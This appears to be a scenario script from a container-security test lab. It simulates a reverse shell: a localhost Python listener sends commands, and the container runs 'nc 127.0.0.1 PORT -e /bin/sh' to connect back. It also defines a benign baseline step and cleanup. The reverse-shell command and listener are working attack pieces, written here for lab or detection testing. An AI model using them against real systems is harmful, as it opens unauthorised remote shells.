# A reverse shell through nc: the container connects out to a listener on the host and hands it a shell
# (`nc -e /bin/sh`), which the listener uses (id, uname, exit).
normal() { inside "$1" /bin/sh -c 'echo ok > /tmp/health; cat /tmp/health' >/dev/null; }
host_setup() {
  LISTEN_PORT=$(free_port)
  python3 - "$LISTEN_PORT" > "$LAB_DIR/reverse-shell.$$.out" 2>&1 <<'PY' &
import socket, sys
s = socket.create_server(("127.0.0.1", int(sys.argv[1])))
s.settimeout(15)
c, _ = s.accept()
c.settimeout(5)
c.sendall(b"id\nuname -a\nexit\n")
try:
    while (data := c.recv(4096)):
        sys.stdout.write(data.decode(errors="replace"))
except socket.timeout:
    pass
PY
  LISTENER=$!
  local i; for i in $(seq 50); do ss -ltn "sport = :$LISTEN_PORT" | grep -q LISTEN && break; sleep 0.1; done
}
# (`timeout` runs a program, not a shell function: the runtime helper goes along into its shell.)
attack() {
  LAB_RUNTIME=$LAB_RUNTIME timeout 10 bash -c "$(declare -f rt lab_log); rt exec \"\$@\"" _ "$1" \
    /bin/nc 127.0.0.1 "$LISTEN_PORT" -e /bin/sh || true
}
host_cleanup() { [ -z "${LISTENER:-}" ] || kill "$LISTENER" 2>/dev/null || true; }
